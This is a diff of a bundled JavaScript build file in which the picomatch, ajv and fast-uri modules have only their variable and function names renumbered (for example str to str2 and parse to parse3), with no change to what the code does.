@@ -248,10 +248,10 @@ var require_utils = __commonJS({
       REGEX_SPECIAL_CHARS_GLOBAL
     } = require_constants();
     exports.isObject = (val) => val !== null && typeof val === "object" && !Array.isArray(val);
-    exports.hasRegexChars = (str) => REGEX_SPECIAL_CHARS.test(str);
-    exports.isRegexChar = (str) => str.length === 1 && exports.hasRegexChars(str);
-    exports.escapeRegex = (str) => str.replace(REGEX_SPECIAL_CHARS_GLOBAL, "\\$1");
-    exports.toPosixSlashes = (str) => str.replace(REGEX_BACKSLASH, "/");
+    exports.hasRegexChars = (str2) => REGEX_SPECIAL_CHARS.test(str2);
+    exports.isRegexChar = (str2) => str2.length === 1 && exports.hasRegexChars(str2);
+    exports.escapeRegex = (str2) => str2.replace(REGEX_SPECIAL_CHARS_GLOBAL, "\\$1");
+    exports.toPosixSlashes = (str2) => str2.replace(REGEX_BACKSLASH, "/");
     exports.isWindows = () => {
       if (typeof navigator !== "undefined" && navigator.platform) {
         const platform = navigator.platform.toLowerCase();
@@ -262,8 +262,8 @@ var require_utils = __commonJS({
       }
       return false;
     };
-    exports.removeBackslashes = (str) => {
-      return str.replace(REGEX_REMOVE_BACKSLASH, (match) => {
+    exports.removeBackslashes = (str2) => {
+      return str2.replace(REGEX_REMOVE_BACKSLASH, (match) => {
         return match === "\\" ? "" : match;
       });
     };
@@ -290,8 +290,8 @@ var require_utils = __commonJS({
       }
       return output;
     };
-    exports.basename = (path, { windows } = {}) => {
-      const segs = path.split(windows ? /[\\/]/ : "/");
+    exports.basename = (path2, { windows } = {}) => {
+      const segs = path2.split(windows ? /[\\/]/ : "/");
       const last = segs[segs.length - 1];
       if (last === "") {
         return segs[segs.length - 2];
@@ -353,7 +353,7 @@ var require_scan = __commonJS({
       const slashes = [];
       const tokens = [];
       const parts2 = [];
-      let str = input;
+      let str2 = input;
       let index = -1;
       let start2 = 0;
       let lastIndex = 0;
@@ -372,10 +372,10 @@ var require_scan = __commonJS({
       let code2;
       let token = { value: "", depth: 0, isGlob: false };
       const eos = () => index >= length;
-      const peek = () => str.charCodeAt(index + 1);
+      const peek = () => str2.charCodeAt(index + 1);
       const advance = () => {
         prev = code2;
-        return str.charCodeAt(++index);
+        return str2.charCodeAt(++index);
       };
       while (index < length) {
         code2 = advance();
@@ -552,24 +552,24 @@ var require_scan = __commonJS({
         isExtglob = false;
         isGlob = false;
       }
-      let base = str;
+      let base = str2;
       let prefix = "";
       let glob = "";
       if (start2 > 0) {
-        prefix = str.slice(0, start2);
-        str = str.slice(start2);
+        prefix = str2.slice(0, start2);
+        str2 = str2.slice(start2);
         lastIndex -= start2;
       }
       if (base && isGlob === true && lastIndex > 0) {
-        base = str.slice(0, lastIndex);
-        glob = str.slice(lastIndex);
+        base = str2.slice(0, lastIndex);
+        glob = str2.slice(lastIndex);
       } else if (isGlob === true) {
         base = "";
-        glob = str;
+        glob = str2;
       } else {
-        base = str;
+        base = str2;
       }
-      if (base && base !== "" && base !== "/" && base !== str) {
+      if (base && base !== "" && base !== "/" && base !== str2) {
         if (isPathSeparator(base.charCodeAt(base.length - 1))) {
           base = base.slice(0, -1);
         }
@@ -892,7 +892,7 @@ var require_parse = __commonJS({
       }
       return { risky: false };
     };
-    var parse = (input, options) => {
+    var parse3 = (input, options) => {
       if (typeof input !== "string") {
         throw new TypeError("Expected a string");
       }
@@ -1062,7 +1062,7 @@ var require_parse = __commonJS({
             output = token.close = `)$))${extglobStar}`;
           }
           if (token.inner.includes("*") && (rest = remaining()) && /^\.[^\\/.]+$/.test(rest)) {
-            const expression = parse(rest, { ...options, fastpaths: false }).output;
+            const expression = parse3(rest, { ...options, fastpaths: false }).output;
             output = token.close = `)${expression})${extglobStar})`;
           }
           if (token.prev.type === "bos") {
@@ -1585,7 +1585,7 @@ var require_parse = __commonJS({
       }
       return state;
     };
-    parse.fastpaths = (input, options) => {
+    parse3.fastpaths = (input, options) => {
       const opts = { ...options };
       const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
       const len = input.length;
@@ -1616,8 +1616,8 @@ var require_parse = __commonJS({
         if (opts2.noglobstar === true) return star;
         return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
       };
-      const create = (str) => {
-        switch (str) {
+      const create = (str2) => {
+        switch (str2) {
           case "*":
             return `${nodot}${ONE_CHAR}${star}`;
           case ".*":
@@ -1635,7 +1635,7 @@ var require_parse = __commonJS({
           case "**/.*":
             return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${DOT_LITERAL}${ONE_CHAR}${star}`;
           default: {
-            const match = /^(.*?)\.(\w+)$/.exec(str);
+            const match = /^(.*?)\.(\w+)$/.exec(str2);
             if (!match) return;
             const source2 = create(match[1]);
             if (!source2) return;
@@ -1650,7 +1650,7 @@ var require_parse = __commonJS({
       }
       return source;
     };
-    module2.exports = parse;
+    module2.exports = parse3;
   }
 });
 
@@ -1659,16 +1659,16 @@ var require_picomatch = __commonJS({
   "node_modules/picomatch/lib/picomatch.js"(exports, module2) {
     "use strict";
     var scan2 = require_scan();
-    var parse = require_parse();
+    var parse3 = require_parse();
     var utils = require_utils();
     var constants = require_constants();
     var isObject = (val) => val && typeof val === "object" && !Array.isArray(val);
-    var picomatch3 = (glob, options, returnState = false) => {
+    var picomatch4 = (glob, options, returnState = false) => {
       if (Array.isArray(glob)) {
-        const fns = glob.map((input) => picomatch3(input, options, returnState));
-        const arrayMatcher = (str) => {
+        const fns = glob.map((input) => picomatch4(input, options, returnState));
+        const arrayMatcher = (str2) => {
           for (const isMatch of fns) {
-            const state2 = isMatch(str);
+            const state2 = isMatch(str2);
             if (state2) return state2;
           }
           return false;
@@ -1681,16 +1681,16 @@ var require_picomatch = __commonJS({
       }
       const opts = options || {};
       const posix = opts.windows;
-      const regex = isState ? picomatch3.compileRe(glob, options) : picomatch3.makeRe(glob, options, false, true);
+      const regex = isState ? picomatch4.compileRe(glob, options) : picomatch4.makeRe(glob, options, false, true);
       const state = regex.state;
       delete regex.state;
       let isIgnored2 = () => false;
       if (opts.ignore) {
         const ignoreOpts = { ...options, ignore: null, onMatch: null, onResult: null };
-        isIgnored2 = picomatch3(opts.ignore, ignoreOpts, returnState);
+        isIgnored2 = picomatch4(opts.ignore, ignoreOpts, returnState);
       }
       const matcher = (input, returnObject = false) => {
-        const { isMatch, match, output } = picomatch3.test(input, regex, options, { glob, posix });
+        const { isMatch, match, output } = picomatch4.test(input, regex, options, { glob, posix });
         const result = { glob, state, regex, posix, input, output, match, isMatch };
         if (typeof opts.onResult === "function") {
           opts.onResult(result);
@@ -1716,7 +1716,7 @@ var require_picomatch = __commonJS({
       }
       return matcher;
     };
-    picomatch3.test = (input, regex, options, { glob, posix } = {}) => {
+    picomatch4.test = (input, regex, options, { glob, posix } = {}) => {
       if (typeof input !== "string") {
         throw new TypeError("Expected input to be a string");
       }
@@ -1724,33 +1724,33 @@ var require_picomatch = __commonJS({
         return { isMatch: false, output: "" };
       }
       const opts = options || {};
-      const format = opts.format || (posix ? utils.toPosixSlashes : null);
+      const format2 = opts.format || (posix ? utils.toPosixSlashes : null);
       let match = input === glob;
-      let output = match && format ? format(input) : input;
+      let output = match && format2 ? format2(input) : input;
       if (match === false) {
-        output = format ? format(input) : input;
+        output = format2 ? format2(input) : input;
         match = output === glob;
       }
       if (match === false || opts.capture === true) {
         if (opts.matchBase === true || opts.basename === true) {
-          match = picomatch3.matchBase(input, regex, options, posix);
+          match = picomatch4.matchBase(input, regex, options, posix);
         } else {
           match = regex.exec(output);
         }
       }
       return { isMatch: Boolean(match), match, output };
     };
-    picomatch3.matchBase = (input, glob, options, posix = options && options.windows) => {
-      const regex = glob instanceof RegExp ? glob : picomatch3.makeRe(glob, options);
+    picomatch4.matchBase = (input, glob, options, posix = options && options.windows) => {
+      const regex = glob instanceof RegExp ? glob : picomatch4.makeRe(glob, options);
       return regex.test(utils.basename(input, { windows: posix }));
     };
-    picomatch3.isMatch = (str, patterns, options) => picomatch3(patterns, options)(str);
-    picomatch3.parse = (pattern, options) => {
-      if (Array.isArray(pattern)) return pattern.map((p) => picomatch3.parse(p, options));
-      return parse(pattern, { ...options, fastpaths: false });
+    picomatch4.isMatch = (str2, patterns, options) => picomatch4(patterns, options)(str2);
+    picomatch4.parse = (pattern, options) => {
+      if (Array.isArray(pattern)) return pattern.map((p) => picomatch4.parse(p, options));
+      return parse3(pattern, { ...options, fastpaths: false });
     };
-    picomatch3.scan = (input, options) => scan2(input, options);
-    picomatch3.compileRe = (state, options, returnOutput = false, returnState = false) => {
+    picomatch4.scan = (input, options) => scan2(input, options);
+    picomatch4.compileRe = (state, options, returnOutput = false, returnState = false) => {
       if (returnOutput === true) {
         return state.output;
       }
@@ -1761,26 +1761,26 @@ var require_picomatch = __commonJS({
       if (state && state.negated === true) {
         source = `^(?!${source}).*$`;
       }
-      const regex = picomatch3.toRegex(source, options);
+      const regex = picomatch4.toRegex(source, options);
       if (returnState === true) {
         regex.state = state;
       }
       return regex;
     };
-    picomatch3.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
+    picomatch4.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
       if (!input || typeof input !== "string") {
         throw new TypeError("Expected a non-empty string");
       }
       let parsed = { negated: false, fastpaths: true };
       if (options.fastpaths !== false && (input[0] === "." || input[0] === "*")) {
-        parsed.output = parse.fastpaths(input, options);
+        parsed.output = parse3.fastpaths(input, options);
       }
       if (!parsed.output) {
-        parsed = parse(input, options);
+        parsed = parse3(input, options);
       }
-      return picomatch3.compileRe(parsed, options, returnOutput, returnState);
+      return picomatch4.compileRe(parsed, options, returnOutput, returnState);
     };
-    picomatch3.toRegex = (source, options) => {
+    picomatch4.toRegex = (source, options) => {
       try {
         const opts = options || {};
         return new RegExp(source, opts.flags || (opts.nocase ? "i" : ""));
@@ -1789,8 +1789,8 @@ var require_picomatch = __commonJS({
         return /$^/;
       }
     };
-    picomatch3.constants = constants;
-    module2.exports = picomatch3;
+    picomatch4.constants = constants;
+    module2.exports = picomatch4;
   }
 });
 
@@ -1800,14 +1800,14 @@ var require_picomatch2 = __commonJS({
     "use strict";
     var pico = require_picomatch();
     var utils = require_utils();
-    function picomatch3(glob, options, returnState = false) {
+    function picomatch4(glob, options, returnState = false) {
       if (options && (options.windows === null || options.windows === void 0)) {
         options = { ...options, windows: utils.isWindows() };
       }
       return pico(glob, options, returnState);
     }
-    Object.assign(picomatch3, pico);
-    module2.exports = picomatch3;
+    Object.assign(picomatch4, pico);
+    module2.exports = picomatch4;
   }
 });
 
@@ -1879,7 +1879,7 @@ var require_code = __commonJS({
     }
     exports._ = _;
     var plus = new _Code("+");
-    function str(strs, ...args2) {
+    function str2(strs, ...args2) {
       const expr = [safeStringify(strs[0])];
       let i2 = 0;
       while (i2 < args2.length) {
@@ -1890,14 +1890,14 @@ var require_code = __commonJS({
       optimize(expr);
       return new _Code(expr);
     }
-    exports.str = str;
-    function addCodeArg(code2, arg) {
-      if (arg instanceof _Code)
-        code2.push(...arg._items);
-      else if (arg instanceof Name)
-        code2.push(arg);
+    exports.str = str2;
+    function addCodeArg(code2, arg2) {
+      if (arg2 instanceof _Code)
+        code2.push(...arg2._items);
+      else if (arg2 instanceof Name)
+        code2.push(arg2);
       else
-        code2.push(interpolate(arg));
+        code2.push(interpolate(arg2));
     }
     exports.addCodeArg = addCodeArg;
     function optimize(expr) {
@@ -1933,7 +1933,7 @@ var require_code = __commonJS({
       return;
     }
     function strConcat(c1, c2) {
-      return c2.emptyStr() ? c1 : c1.emptyStr() ? c2 : str`${c1}${c2}`;
+      return c2.emptyStr() ? c1 : c1.emptyStr() ? c2 : str2`${c1}${c2}`;
     }
     exports.strConcat = strConcat;
     function interpolate(x) {
@@ -1988,7 +1988,7 @@ var require_scope = __commonJS({
       let: new code_1.Name("let"),
       var: new code_1.Name("var")
     };
-    var Scope = class {
+    var Scope2 = class {
       constructor({ prefixes, parent } = {}) {
         this._names = {};
         this._prefixes = prefixes;
@@ -2012,7 +2012,7 @@ var require_scope = __commonJS({
         return this._names[prefix] = { prefix, index: 0 };
       }
     };
-    exports.Scope = Scope;
+    exports.Scope = Scope2;
     var ValueScopeName = class extends code_1.Name {
       constructor(prefix, nameStr) {
         super(nameStr);
@@ -2025,7 +2025,7 @@ var require_scope = __commonJS({
     };
     exports.ValueScopeName = ValueScopeName;
     var line = (0, code_1._)`\n`;
-    var ValueScope = class extends Scope {
+    var ValueScope = class extends Scope2 {
       constructor(opts) {
         super(opts);
         this._values = {};
@@ -2855,23 +2855,23 @@ var require_util = __commonJS({
     }
     exports.alwaysValidSchema = alwaysValidSchema;
     function checkUnknownRules(it, schema = it.schema) {
-      const { opts, self } = it;
+      const { opts, self: self2 } = it;
       if (!opts.strictSchema)
         return;
       if (typeof schema === "boolean")
         return;
-      const rules = self.RULES.keywords;
+      const rules2 = self2.RULES.keywords;
       for (const key in schema) {
-        if (!rules[key])
+        if (!rules2[key])
           checkStrictMode(it, `unknown keyword: "${key}"`);
       }
     }
     exports.checkUnknownRules = checkUnknownRules;
-    function schemaHasRules(schema, rules) {
+    function schemaHasRules(schema, rules2) {
       if (typeof schema == "boolean")
         return !schema;
       for (const key in schema)
-        if (rules[key])
+        if (rules2[key])
           return true;
       return false;
     }
@@ -2895,22 +2895,22 @@ var require_util = __commonJS({
       return (0, codegen_1._)`${topSchemaRef}${schemaPath}${(0, codegen_1.getProperty)(keyword)}`;
     }
     exports.schemaRefOrVal = schemaRefOrVal;
-    function unescapeFragment(str) {
-      return unescapeJsonPointer(decodeURIComponent(str));
+    function unescapeFragment(str2) {
+      return unescapeJsonPointer(decodeURIComponent(str2));
     }
     exports.unescapeFragment = unescapeFragment;
-    function escapeFragment(str) {
-      return encodeURIComponent(escapeJsonPointer(str));
+    function escapeFragment(str2) {
+      return encodeURIComponent(escapeJsonPointer(str2));
     }
     exports.escapeFragment = escapeFragment;
-    function escapeJsonPointer(str) {
-      if (typeof str == "number")
-        return `${str}`;
-      return str.replace(/~/g, "~0").replace(/\//g, "~1");
+    function escapeJsonPointer(str2) {
+      if (typeof str2 == "number")
+        return `${str2}`;
+      return str2.replace(/~/g, "~0").replace(/\//g, "~1");
     }
     exports.escapeJsonPointer = escapeJsonPointer;
-    function unescapeJsonPointer(str) {
-      return str.replace(/~1/g, "/").replace(/~0/g, "~");
+    function unescapeJsonPointer(str2) {
+      return str2.replace(/~1/g, "/").replace(/~0/g, "~");
     }
     exports.unescapeJsonPointer = unescapeJsonPointer;
     function eachItem(xs, f) {
@@ -3246,18 +3246,18 @@ var require_applicability = __commonJS({
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.shouldUseRule = exports.shouldUseGroup = exports.schemaHasRulesForType = void 0;
-    function schemaHasRulesForType({ schema, self }, type) {
-      const group = self.RULES.types[type];
+    function schemaHasRulesForType({ schema, self: self2 }, type) {
+      const group = self2.RULES.types[type];
       return group && group !== true && shouldUseGroup(schema, group);
     }
     exports.schemaHasRulesForType = schemaHasRulesForType;
     function shouldUseGroup(schema, group) {
-      return group.rules.some((rule) => shouldUseRule(schema, rule));
+      return group.rules.some((rule2) => shouldUseRule(schema, rule2));
     }
     exports.shouldUseGroup = shouldUseGroup;
-    function shouldUseRule(schema, rule) {
+    function shouldUseRule(schema, rule2) {
       var _a;
-      return schema[rule.keyword] !== void 0 || ((_a = rule.definition.implements) === null || _a === void 0 ? void 0 : _a.some((kwd) => schema[kwd] !== void 0));
+      return schema[rule2.keyword] !== void 0 || ((_a = rule2.definition.implements) === null || _a === void 0 ? void 0 : _a.some((kwd) => schema[kwd] !== void 0));
     }
     exports.shouldUseRule = shouldUseRule;
   }
@@ -3712,7 +3712,7 @@ var require_keyword = __commonJS({
       return !schemaType.length || schemaType.some((st) => st === "array" ? Array.isArray(schema) : st === "object" ? schema && typeof schema == "object" && !Array.isArray(schema) : typeof schema == st || allowUndefined && typeof schema == "undefined");
     }
     exports.validSchemaType = validSchemaType;
-    function validateKeywordUsage({ schema, opts, self, errSchemaPath }, def, keyword) {
+    function validateKeywordUsage({ schema, opts, self: self2, errSchemaPath }, def, keyword) {
       if (Array.isArray(def.keyword) ? !def.keyword.includes(keyword) : def.keyword !== keyword) {
         throw new Error("ajv implementation error");
       }
@@ -3723,9 +3723,9 @@ var require_keyword = __commonJS({
       if (def.validateSchema) {
         const valid = def.validateSchema(schema[keyword]);
         if (!valid) {
-          const msg = `keyword "${keyword}" value is invalid at path "${errSchemaPath}": ` + self.errorsText(def.validateSchema.errors);
+          const msg = `keyword "${keyword}" value is invalid at path "${errSchemaPath}": ` + self2.errorsText(def.validateSchema.errors);
           if (opts.validateSchema === "log")
-            self.logger.error(msg);
+            self2.logger.error(msg);
           else
             throw new Error(msg);
         }
@@ -3935,8 +3935,8 @@ var require_json_schema_traverse = __commonJS({
         post(schema, jsonPtr, rootSchema, parentJsonPtr, parentKeyword, parentSchema, keyIndex);
       }
     }
-    function escapeJsonPtr(str) {
-      return str.replace(/~/g, "~0").replace(/\//g, "~1");
+    function escapeJsonPtr(str2) {
+      return str2.replace(/~/g, "~0").replace(/\//g, "~1");
     }
   }
 });
@@ -4192,11 +4192,11 @@ var require_validate = __commonJS({
       }
       (0, boolSchema_1.boolOrEmptySchema)(it, valid);
     }
-    function schemaCxtHasRules({ schema, self }) {
+    function schemaCxtHasRules({ schema, self: self2 }) {
       if (typeof schema == "boolean")
         return !schema;
       for (const key in schema)
-        if (self.RULES.all[key])
+        if (self2.RULES.all[key])
           return true;
       return false;
     }
@@ -4225,9 +4225,9 @@ var require_validate = __commonJS({
       schemaKeywords(it, types, !checkedTypes, errsCount);
     }
     function checkRefsAndKeywords(it) {
-      const { schema, errSchemaPath, opts, self } = it;
-      if (schema.$ref && opts.ignoreKeywordsWithRef && (0, util_1.schemaHasRulesButRef)(schema, self.RULES)) {
-        self.logger.warn(`$ref: keywords ignored in schema at path "${errSchemaPath}"`);
+      const { schema, errSchemaPath, opts, self: self2 } = it;
+      if (schema.$ref && opts.ignoreKeywordsWithRef && (0, util_1.schemaHasRulesButRef)(schema, self2.RULES)) {
+        self2.logger.warn(`$ref: keywords ignored in schema at path "${errSchemaPath}"`);
       }
     }
     function checkNoDefault(it) {
@@ -4273,8 +4273,8 @@ var require_validate = __commonJS({
         gen.assign((0, codegen_1._)`${evaluated}.items`, items);
     }
     function schemaKeywords(it, types, typeErrors, errsCount) {
-      const { gen, schema, data, allErrors, opts, self } = it;
-      const { RULES } = self;
+      const { gen, schema, data, allErrors, opts, self: self2 } = it;
+      const { RULES } = self2;
       if (schema.$ref && (opts.ignoreKeywordsWithRef || !(0, util_1.schemaHasRulesButRef)(schema, RULES))) {
         gen.block(() => keywordCode(it, "$ref", RULES.all.$ref.definition));
         return;
@@ -4309,9 +4309,9 @@ var require_validate = __commonJS({
       if (useDefaults)
         (0, defaults_1.assignDefaults)(it, group.type);
       gen.block(() => {
-        for (const rule of group.rules) {
-          if ((0, applicability_1.shouldUseRule)(schema, rule)) {
-            keywordCode(it, rule.keyword, rule.definition, group.type);
+        for (const rule2 of group.rules) {
+          if ((0, applicability_1.shouldUseRule)(schema, rule2)) {
+            keywordCode(it, rule2.keyword, rule2.definition, group.type);
           }
         }
       });
@@ -4344,11 +4344,11 @@ var require_validate = __commonJS({
       }
     }
     function checkKeywordTypes(it, ts) {
-      const rules = it.self.RULES.all;
-      for (const keyword in rules) {
-        const rule = rules[keyword];
-        if (typeof rule == "object" && (0, applicability_1.shouldUseRule)(it.schema, rule)) {
-          const { type } = rule.definition;
+      const rules2 = it.self.RULES.all;
+      for (const keyword in rules2) {
+        const rule2 = rules2[keyword];
+        if (typeof rule2 == "object" && (0, applicability_1.shouldUseRule)(it.schema, rule2)) {
+          const { type } = rule2.definition;
           if (type.length && !type.some((t) => hasApplicableType(ts, t))) {
             strictTypesError(it, `missing type "${type.join(",")}" for keyword "${keyword}"`);
           }
@@ -4762,7 +4762,7 @@ var require_compile = __commonJS({
       const schOrFunc = root.refs[ref];
       if (schOrFunc)
         return schOrFunc;
-      let _sch = resolve7.call(this, root, ref);
+      let _sch = resolve12.call(this, root, ref);
       if (_sch === void 0) {
         const schema = (_a = root.localRefs) === null || _a === void 0 ? void 0 : _a[ref];
         const { schemaId } = this.opts;
@@ -4789,7 +4789,7 @@ var require_compile = __commonJS({
     function sameSchemaEnv(s1, s2) {
       return s1.schema === s2.schema && s1.root === s2.root && s1.baseId === s2.baseId;
     }
-    function resolve7(root, ref) {
+    function resolve12(root, ref) {
       let sch;
       while (typeof (sch = this.refs[ref]) == "string")
         ref = sch;
@@ -5033,15 +5033,15 @@ var require_utils2 = __commonJS({
         isIPV6: true
       };
     }
-    function findToken(str, token) {
+    function findToken(str2, token) {
       let ind = 0;
-      for (let i2 = 0; i2 < str.length; i2++) {
-        if (str[i2] === token) ind++;
+      for (let i2 = 0; i2 < str2.length; i2++) {
+        if (str2[i2] === token) ind++;
       }
       return ind;
     }
-    function removeDotSegments(path) {
-      let input = path;
+    function removeDotSegments(path2) {
+      let input = path2;
       const output = [];
       let nextSlash = -1;
       let len = 0;
@@ -5115,11 +5115,11 @@ var require_utils2 = __commonJS({
       }
       return output.join("");
     }
-    function removeDotSegmentsRelative(path) {
-      if (path === "" || path[0] === "/") {
-        return removeDotSegments(path);
+    function removeDotSegmentsRelative(path2) {
+      if (path2 === "" || path2[0] === "/") {
+        return removeDotSegments(path2);
       }
-      const segments = path.split("/");
+      const segments = path2.split("/");
       const last = segments.length - 1;
       const output = [];
       let trailingDirectory = false;
@@ -5482,8 +5482,8 @@ var require_schemes = __commonJS({
       }
       if (wsComponent.resourceName) {
         const queryIndex = wsComponent.resourceName.indexOf("?");
-        const path = queryIndex === -1 ? wsComponent.resourceName : wsComponent.resourceName.slice(0, queryIndex);
-        wsComponent.path = path && path !== "/" ? path : void 0;
+        const path2 = queryIndex === -1 ? wsComponent.resourceName : wsComponent.resourceName.slice(0, queryIndex);
+        wsComponent.path = path2 && path2 !== "/" ? path2 : void 0;
         wsComponent.query = queryIndex === -1 ? void 0 : wsComponent.resourceName.slice(queryIndex + 1);
         wsComponent.resourceName = void 0;
       }
@@ -5649,11 +5649,11 @@ var require_fast_uri = __commonJS({
         normalizeString(uri, options);
       } else if (typeof uri === "object") {
         uri = /** @type {T} */
-        parse(serialize(uri, options), options);
+        parse3(serialize(uri, options), options);
       }
       return uri;
     }
-    function resolve7(baseURI, relativeURI, options) {
+    function resolve12(baseURI, relativeURI, options) {
       const schemelessOptions = options ? Object.assign({ scheme: "null" }, options) : { scheme: "null" };
       const {
         parsed: baseParsed,
@@ -5689,50 +5689,50 @@ var require_fast_uri = __commonJS({
       schemelessOptions.skipEscape = true;
       return serialize(resolved, schemelessOptions);
     }
-    function resolveComponent(base, relative2, options, skipNormalization) {
+    function resolveComponent(base, relative5, options, skipNormalization) {
       const target = {};
       if (!skipNormalization) {
-        base = parse(serialize(base, options), options);
-        relative2 = parse(serialize(relative2, options), options);
+        base = parse3(serialize(base, options), options);
+        relative5 = parse3(serialize(relative5, options), options);
       }
       options = options || {};
-      if (!options.tolerant && relative2.scheme) {
-        target.scheme = relative2.scheme;
-        target.userinfo = relative2.userinfo;
-        target.host = relative2.host;
-        target.port = relative2.port;
-        target.path = removeDotSegments(relative2.path || "");
-        target.query = relative2.query;
+      if (!options.tolerant && relative5.scheme) {
+        target.scheme = relative5.scheme;
+        target.userinfo = relative5.userinfo;
+        target.host = relative5.host;
+        target.port = relative5.port;
+        target.path = removeDotSegments(relative5.path || "");
+        target.query = relative5.query;
       } else {
-        if (relative2.userinfo !== void 0 || relative2.host !== void 0 || relative2.port !== void 0) {
-          target.userinfo = relative2.userinfo;
-          target.host = relative2.host;
-          target.port = relative2.port;
-          target.path = removeDotSegments(relative2.path || "");
-          target.query = relative2.query;
+        if (relative5.userinfo !== void 0 || relative5.host !== void 0 || relative5.port !== void 0) {
+          target.userinfo = relative5.userinfo;
+          target.host = relative5.host;
+          target.port = relative5.port;
+          target.path = removeDotSegments(relative5.path || "");
+          target.query = relative5.query;
         } else {
-          if (!relative2.path) {
+          if (!relative5.path) {
             target.path = base.path;
-            if (relative2.query !== void 0) {
-              target.query = relative2.query;
+            if (relative5.query !== void 0) {
+              target.query = relative5.query;
             } else {
               target.query = base.query;
             }
           } else {
-            if (relative2.path[0] === "/") {
-              target.path = removeDotSegments(relative2.path);
+            if (relative5.path[0] === "/") {
+              target.path = removeDotSegments(relative5.path);
             } else {
               const baseHasAuthority = base.userinfo !== void 0 || base.host !== void 0 || base.port !== void 0;
               if (baseHasAuthority && !base.path) {
-                target.path = "/" + relative2.path;
+                target.path = "/" + relative5.path;
               } else if (!base.path) {
-                target.path = relative2.path;
+                target.path = relative5.path;
               } else {
-                target.path = base.path.slice(0, base.path.lastIndexOf("/") + 1) + relative2.path;
+                target.path = base.path.slice(0, base.path.lastIndexOf("/") + 1) + relative5.path;
               }
               target.path = base.scheme === void 0 && !baseHasAuthority && target.path[0] !== "/" ? removeDotSegmentsRelative(target.path) : removeDotSegments(target.path);
             }
-            target.query = relative2.query;
+            target.query = relative5.query;
           }
           target.userinfo = base.userinfo;
           target.host = base.host;
@@ -5740,7 +5740,7 @@ var require_fast_uri = __commonJS({
         }
         target.scheme = base.scheme;
       }
-      target.fragment = relative2.fragment;
+      target.fragment = relative5.fragment;
       return target;
     }
     function equal(uriA, uriB, options) {
@@ -6011,7 +6011,7 @@ var require_fast_uri = __commonJS({
       }
       return { parsed, malformedAuthorityOrPort, malformedPercentEncoding, malformedSchemeSpecific, malformedHost, malformedScheme };
     }
-    function parse(uri, opts) {
+    function parse3(uri, opts) {
       return parseWithStatus(uri, opts).parsed;
     }
     function normalizeString(uri, opts) {
@@ -6044,11 +6044,11 @@ var require_fast_uri = __commonJS({
     var fastUri = {
       SCHEMES,
       normalize,
-      resolve: resolve7,
+      resolve: resolve12,
       resolveComponent,
       equal,
       serialize,
-      parse
+      parse: parse3
     };
     module2.exports = fastUri;
     module2.exports.default = fastUri;
@@ -6106,7 +6106,7 @@ var require_core = __commonJS({
     var util_1 = require_util();
     var $dataRefSchema = require_data();
     var uri_1 = require_uri();
-    var defaultRegExp = (str, flags2) => new RegExp(str, flags2);
+    var defaultRegExp = (str2, flags2) => new RegExp(str2, flags2);
     defaultRegExp.code = "new RegExp";
     var META_IGNORE_OPTIONS = ["removeAdditional", "useDefaults", "coerceTypes"];
     var EXT_SCOPE_NAMES = /* @__PURE__ */ new Set([
@@ -6175,7 +6175,7 @@ var require_core = __commonJS({
         uriResolver
       };
     }
-    var Ajv2 = class {
+    var Ajv3 = class {
       constructor(opts = {}) {
         this.schemas = {};
         this.refs = {};
@@ -6190,8 +6190,8 @@ var require_core = __commonJS({
         const formatOpt = opts.validateFormats;
         opts.validateFormats = false;
         this.RULES = (0, rules_1.getRules)();
-        checkOptions.call(this, removedOptions, opts, "NOT SUPPORTED");
-        checkOptions.call(this, deprecatedOptions, opts, "DEPRECATED", "warn");
+        checkOptions2.call(this, removedOptions, opts, "NOT SUPPORTED");
+        checkOptions2.call(this, deprecatedOptions, opts, "DEPRECATED", "warn");
         this._metaOpts = getMetaSchemaOptions.call(this);
         if (opts.formats)
           addInitialFormats.call(this);
@@ -6208,19 +6208,19 @@ var require_core = __commonJS({
         this.addKeyword("$async");
       }
       _addDefaultMetaSchema() {
-        const { $data, meta, schemaId } = this.opts;
+        const { $data, meta: meta9, schemaId } = this.opts;
         let _dataRefSchema = $dataRefSchema;
         if (schemaId === "id") {
           _dataRefSchema = { ...$dataRefSchema };
           _dataRefSchema.id = _dataRefSchema.$id;
           delete _dataRefSchema.$id;
         }
-        if (meta && $data)
+        if (meta9 && $data)
           this.addMetaSchema(_dataRefSchema, _dataRefSchema[schemaId], false);
       }
       defaultMeta() {
-        const { meta, schemaId } = this.opts;
-        return this.opts.defaultMeta = typeof meta == "object" ? meta[schemaId] || meta : void 0;
+        const { meta: meta9, schemaId } = this.opts;
+        return this.opts.defaultMeta = typeof meta9 == "object" ? meta9[schemaId] || meta9 : void 0;
       }
       validate(schemaKeyRef, data) {
         let v;
@@ -6240,12 +6240,12 @@ var require_core = __commonJS({
         const sch = this._addSchema(schema, _meta);
         return sch.validate || this._compileSchemaEnv(sch);
       }
-      compileAsync(schema, meta) {
+      compileAsync(schema, meta9) {
         if (typeof this.opts.loadSchema != "function") {
           throw new Error("options.loadSchema should be a function");
         }
         const { loadSchema } = this.opts;
-        return runCompileAsync.call(this, schema, meta);
+        return runCompileAsync.call(this, schema, meta9);
         async function runCompileAsync(_schema, _meta) {
           await loadMetaSchema.call(this, _schema.$schema);
           const sch = this._addSchema(_schema, _meta);
@@ -6277,7 +6277,7 @@ var require_core = __commonJS({
           if (!this.refs[ref])
             await loadMetaSchema.call(this, _schema.$schema);
           if (!this.refs[ref])
-            this.addSchema(_schema, ref, meta);
+            this.addSchema(_schema, ref, meta9);
         }
         async function _loadSchema(ref) {
           const p = this._loading[ref];
@@ -6434,8 +6434,8 @@ var require_core = __commonJS({
         return this;
       }
       getKeyword(keyword) {
-        const rule = this.RULES.all[keyword];
-        return typeof rule == "object" ? rule.definition : !!rule;
+        const rule2 = this.RULES.all[keyword];
+        return typeof rule2 == "object" ? rule2.definition : !!rule2;
       }
       // Remove keyword
       removeKeyword(keyword) {
@@ -6443,17 +6443,17 @@ var require_core = __commonJS({
         delete RULES.keywords[keyword];
         delete RULES.all[keyword];
         for (const group of RULES.rules) {
-          const i2 = group.rules.findIndex((rule) => rule.keyword === keyword);
+          const i2 = group.rules.findIndex((rule2) => rule2.keyword === keyword);
           if (i2 >= 0)
